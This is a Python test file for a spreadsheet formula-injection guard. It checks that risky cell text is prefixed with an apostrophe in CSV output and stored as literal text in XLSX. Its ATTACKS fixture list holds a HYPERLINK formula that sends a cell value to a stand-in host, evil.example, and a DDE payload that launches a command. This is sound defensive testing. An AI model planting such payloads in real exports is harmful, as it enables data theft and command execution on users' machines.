"""Formula injection: risky cell text is neutralised for CSV and kept literal in XLSX."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from rencana.schema.safe_text import is_risky, neutralise, neutralise_frame, neutralise_row, set_xlsx_text

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_neutralised(text: str) -> None:
    assert is_risky(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Penguatan Pengawasan", "1. Sosialisasi", "", "KPU Kota Banjar", 12, 3.5, None]
)
def test_plain_values_pass(value: object) -> None:
    assert neutralise(value) == value


@given(st.text())
def test_neutralise_is_idempotent(text: str) -> None:
    once = neutralise(text)
    assert neutralise(once) == once
    assert once.endswith(text)


def test_csv_rows_and_frames() -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow(neutralise_row(["=1+1", "ok", 5]))
    assert buf.getvalue().strip() == "'=1+1,ok,5"
    frame = pd.DataFrame({"kegiatan": ["=1+1", "Sosialisasi"], "n": [1, 2]})
    safe = neutralise_frame(frame)
    assert safe["kegiatan"].tolist() == ["'=1+1", "Sosialisasi"] and safe["n"].tolist() == [1, 2]
    assert frame["kegiatan"][0] == "=1+1"  # the input is not changed


def test_xlsx_cells_stay_literal_text(tmp_path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    for i, text in enumerate([*ATTACKS, "biasa"], start=1):
        set_xlsx_text(ws.cell(row=i, column=1), text)
    set_xlsx_text(ws.cell(row=1, column=2), 42)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    back = openpyxl.load_workbook(path).active
    assert back is not None
    for i, text in enumerate(ATTACKS, start=1):
        cell = back.cell(row=i, column=1)
        assert cell.value == text and cell.data_type == "s" and cell.quotePrefix
    assert back.cell(row=1, column=2).value == 42
